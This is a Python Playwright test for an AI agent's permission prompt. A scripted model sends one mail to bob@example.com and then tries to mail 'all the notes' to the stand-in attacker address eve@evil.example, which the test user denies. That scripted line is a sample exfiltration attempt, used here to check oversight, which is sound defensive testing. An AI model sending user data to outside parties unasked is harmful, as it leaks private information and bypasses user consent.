"""A call that the user is asked about, on the page in a real Chromium."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from agent.gate import Gate
from agent.permissions import PermissionDesk
from agent.session import Session
from sandbox.executor import SandboxExecutor
from serving.scripted import ScriptedModel
from tests.test_agent_permissions import SendMail
from tests.test_web_page import Site, ask, browser, code  # noqa: F401

SCRIPT = [
    code("print(send_mail('bob@example.com', '<b>hi</b>'))"),
    code("print(send_mail('eve@evil.example', 'all the notes'))"),
    code("final_answer('it went on')"),
]


class Mails(Site):
    """Each visitor has a tool that sends mails."""

    def _new_session(self) -> Session:
        folder = self.folder / f"w{len(self.sessions)}"
        model = ScriptedModel(SCRIPT, delay_seconds=0.002)
        gate = Gate(desk=PermissionDesk(60))
        self.tool = SendMail()
        self.sessions.append(
            Session(model, SandboxExecutor(folder), [self.tool], folder, gate=gate)
        )
        return self.sessions[-1]


@pytest.fixture
def opened(tmp_path: Path, browser: Browser) -> Iterator[tuple[Mails, Page]]:  # noqa: F811
    site = Mails(tmp_path)
    page = site.opened(browser)
    yield site, page
    page.context.close()
    site.close()


def test_the_question_waits_through_a_reload_and_a_click_answers_it(
    opened: tuple[Mails, Page],
) -> None:
    site, page = opened
    once = page.locator("#permit-once")
    expect(page.locator("#task textarea")).to_be_visible(timeout=20_000)
    expect(once).to_be_hidden()
    ask(page, "mail bob")
    expect(
        page.get_by_text("send_mail(to='bob@example.com', text='<b>hi</b>')").last
    ).to_be_visible(timeout=20_000)
    page.reload()  # the run waits on, and so does its question
    expect(once).to_be_visible(timeout=20_000)
    assert site.tool.sent == []
    once.click()
    expect(page.get_by_text("send_mail(to='eve@evil.example'").last).to_be_visible(timeout=20_000)
    always = page.locator("#permit-session")
    expect(always).to_have_text("Allow send_mail on evil.example in this conversation")
    page.locator("#permit-deny").click()
    expect(page.locator("strong", has_text="it went on")).to_be_visible(timeout=20_000)
    expect(page.get_by_text("Denied.")).to_be_visible()
    expect(once).to_be_hidden()
    assert site.tool.sent == ["bob@example.com"]
